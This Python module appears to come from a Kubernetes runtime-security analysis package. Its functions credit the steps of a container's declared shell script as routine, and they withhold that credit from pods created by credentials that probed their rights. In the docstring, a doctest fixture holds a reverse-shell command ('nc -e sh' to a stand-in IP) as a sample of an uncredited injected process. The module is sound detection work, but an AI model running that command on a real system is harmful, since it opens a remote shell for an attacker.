"""A container running the script its spec declares: designed behaviour, whichever controller made it.

A pod made by Kubernetes' Job controller runs the command its Job declares
(:func:`~.routine.job_pods`); a Helm hook, an operator's one-off task or a CI step shipped as a
bare Pod does the same without the ``job-name`` label.  What the pod's spec declares is seen in
the capture itself: the container's main process (of its pod's own tree, started by the runtime:
:func:`~._sessions.mains`) is a shell or an interpreter (:data:`~._endpoints.INTERPRETER`) given
its program on the command line (``sh -c 'apk add curl && curl -fsSL … | tar xz -C /tmp &&
/tmp/migrate up'``).  :func:`declared_steps` credits each *step* of its script — a child it
started whose binary the script names (``apk``, ``curl``, ``tar``, ``/tmp/migrate``) — and
what a step started at once (within :data:`STEP_NS` of the step's start: not what a step that
runs a server started later, on a request).  A child the script does not name (a server's
injected shell below ``sh -c 'python app.py'`` is the server's, not the shell's) and the shell
itself get nothing.

It is evidence about the spec, not about who wrote it: the engine takes the credit back from a
pod that a process which is not routine deployed through the API (:func:`~.engine._untaint`), and
:func:`probed_pods` withholds it from a pod whose ``create`` the audit log shows sent by a
credential that probed its rights or was refused in the capture (a stolen token's pod).

>>> procs = pl.DataFrame({"exec_id": ["shim", "sh", "curl", "tar", "tool", "x"],
...     "parent_exec_id": [None, "shim", "sh", "sh", "sh", "sh"], "pod": [None] + ["hook"] * 5,
...     "in_init_tree": [None] + [True] * 5,
...     "binary": ["/shim", "/bin/sh", "/usr/bin/curl", "/bin/tar", "/tmp/tool", "/bin/nc"],
...     "args": [None, "-c curl -s https://x/t.tgz | tar xz -C /tmp && /tmp/tool up", "-s https://x/t.tgz",
...              "xz -C /tmp", "up", "-e sh 6.6.6.6 4444"],
...     "start_ns": [0, 10, 11, 11, 20, 30]})
>>> declared_steps(procs)["exec_id"].to_list()
['curl', 'tar', 'tool']
"""

from __future__ import annotations

import polars as pl

from kernelsec_nb.findings._api_session import PROBES
from kernelsec_nb.findings._endpoints import INTERPRETER
from kernelsec_nb.findings._sessions import mains
from kernelsec_nb.findings.routine import DEFAULT, RULE_COLUMNS, RoutineSettings

NS = 1_000_000_000
#: What a step starts at once belongs to the step (a server's child on a later request does not).
STEP_NS = 60 * NS
#: How deep below a step its processes are followed.
_DEPTH = 8
REASON = "a step of the script its container's spec declares (its main process's -c)"
#: A shell given its program on the command line: a short-option cluster with ``c`` (``-c``, ``-ec``).
_SCRIPT_FLAG = r"(?:^|\s)-[a-zA-Z]*c[a-zA-Z]*\s+(.*)$"
#: The words of a script that may name a program (split on blanks and the shell's operators).
_WORD = r"[^\s|&;()<>`$'\"=]+"


def _name(col: pl.Expr) -> pl.Expr:
    return col.fill_null("").str.extract(r"([^/]+)$", 1).fill_null("")


def declared_steps(procs: pl.DataFrame, s: RoutineSettings = DEFAULT) -> pl.DataFrame:
    """The main processes that run a script given on their command line, the script's steps and
    what those started at once (see the module): :data:`~.routine.RULE_COLUMNS` rows, weight
    ``w_job``."""
    m = mains(procs)
    if m.height == 0 or "args" not in m.columns:
        return pl.DataFrame(schema=RULE_COLUMNS)
    if "seen_as" in m.columns:  # a start the capture saw: its command line is known
        m = m.filter(pl.col("seen_as").fill_null("exec") == "exec")
    script = pl.col("args").fill_null("").str.extract(_SCRIPT_FLAG, 1)
    shell = _name(pl.col("binary")).str.contains(INTERPRETER.pattern)  # ``tool -c config.json`` is no script
    m = m.filter(shell & script.is_not_null()).select("exec_id", "pod", script.str.extract_all(_WORD).alias("_words"))
    if m.height == 0:
        return pl.DataFrame(schema=RULE_COLUMNS)
    names = m.select("exec_id", pl.col("_words").list.eval(pl.element().str.extract(r"([^/]+)$", 1)).alias("_names"),
                     "_words")
    kids = procs.select("exec_id", "parent_exec_id", "pod", "binary", "start_ns").join(
        names.rename({"exec_id": "parent_exec_id"}), on="parent_exec_id", how="inner").join(
        m.select(pl.col("exec_id").alias("parent_exec_id"), pl.col("pod").alias("_mpod")), on="parent_exec_id")
    named = (pl.col("_words").list.contains(pl.col("binary").fill_null(""))
             | pl.col("_names").list.contains(_name(pl.col("binary"))))
    steps = kids.filter((pl.col("pod") == pl.col("_mpod")) & named).select("exec_id", "pod", "start_ns")
    member, frontier = steps, steps
    p = procs.select("exec_id", "parent_exec_id", "pod", "start_ns")
    for _ in range(_DEPTH):
        nxt = p.join(frontier.select(pl.col("exec_id").alias("parent_exec_id"), "pod",
                                     pl.col("start_ns").alias("_pstart")), on=["parent_exec_id", "pod"], how="inner")
        nxt = nxt.filter(pl.col("start_ns") - pl.col("_pstart") < STEP_NS).select("exec_id", "pod", "start_ns")
        nxt = nxt.join(member, on="exec_id", how="anti").unique("exec_id")
        if nxt.height == 0:
            break
        member, frontier = pl.concat([member, nxt]), nxt
    # the steps, not the shell itself: what it does on its own is no step its script names
    ids = member["exec_id"].unique(maintain_order=True)
    return pl.DataFrame({"exec_id": ids}).select(
        "exec_id", pl.lit(s.w_job).alias("weight"), pl.lit(REASON).alias("reason")).cast(RULE_COLUMNS)  # type: ignore[arg-type]


def probed_pods(api: pl.DataFrame | None) -> pl.DataFrame:
    """``namespace``, ``pod`` of the pods the audit log shows created by a sender (one user from one
    source address) that probed its rights (``selfsubjectrulesreviews``, …) or was refused (403)
    in the capture before."""
    cols = {"namespace": pl.String, "pod": pl.String}
    if api is None or api.height == 0 or not {"verb", "resource", "user", "time_ns"} <= set(api.columns):
        return pl.DataFrame(schema=cols)
    ip = pl.col("src_ip").cast(pl.String) if "src_ip" in api.columns else pl.lit(None, pl.String)
    code = pl.col("code").fill_null(200) if "code" in api.columns else pl.lit(200)
    c = api.with_columns(ip.alias("_ip"), code.alias("_code"))
    probe = c.filter(pl.col("resource").is_in(list(PROBES)) | (pl.col("_code") == 403)).group_by("user", "_ip").agg(
        pl.col("time_ns").min().alias("_first"))
    name = pl.col("created_name") if "created_name" in c.columns else pl.col("name")
    sub = pl.col("subresource").is_null() if "subresource" in c.columns else pl.lit(True)
    made = c.filter((pl.col("verb") == "create") & (pl.col("resource") == "pods") & sub & (pl.col("_code") < 400))
    hit = made.join(probe, on=["user", "_ip"], how="inner", nulls_equal=True).filter(
        pl.col("_first") <= pl.col("time_ns"))
    return hit.select(pl.col("namespace").cast(pl.String), name.cast(pl.String).alias("pod")).drop_nulls("pod").unique()


def with_declared(rt: pl.DataFrame, procs: pl.DataFrame, api: pl.DataFrame | None = None,
                  s: RoutineSettings = DEFAULT) -> pl.DataFrame:
    """``rt`` (``exec_id``, ``routine``, ``reason``) with the declared steps' credit where it is
    higher, except in the pods :func:`probed_pods` names."""
    d = declared_steps(procs, s)
    if d.height == 0 or rt.height == 0:
        return rt
    bad = probed_pods(api)
    if bad.height and "namespace" in procs.columns:
        where = procs.select("exec_id", pl.col("namespace").cast(pl.String), "pod").unique("exec_id")
        d = d.join(where, on="exec_id", how="left").join(bad, on=["namespace", "pod"], how="anti").select(d.columns)
    out = rt.join(d.select("exec_id", pl.col("weight").alias("_wd"), pl.col("reason").alias("_rd")),
                  on="exec_id", how="left", maintain_order="left")
    up = pl.col("_wd").is_not_null() & (pl.col("_wd") > pl.col("routine").fill_null(0.0))
    return out.with_columns(pl.when(up).then(pl.col("_wd")).otherwise(pl.col("routine")).alias("routine"),
                            pl.when(up).then(pl.col("_rd")).otherwise(pl.col("reason")).alias("reason")
                            ).drop("_wd", "_rd")


__all__ = ["REASON", "declared_steps", "probed_pods", "with_declared"]
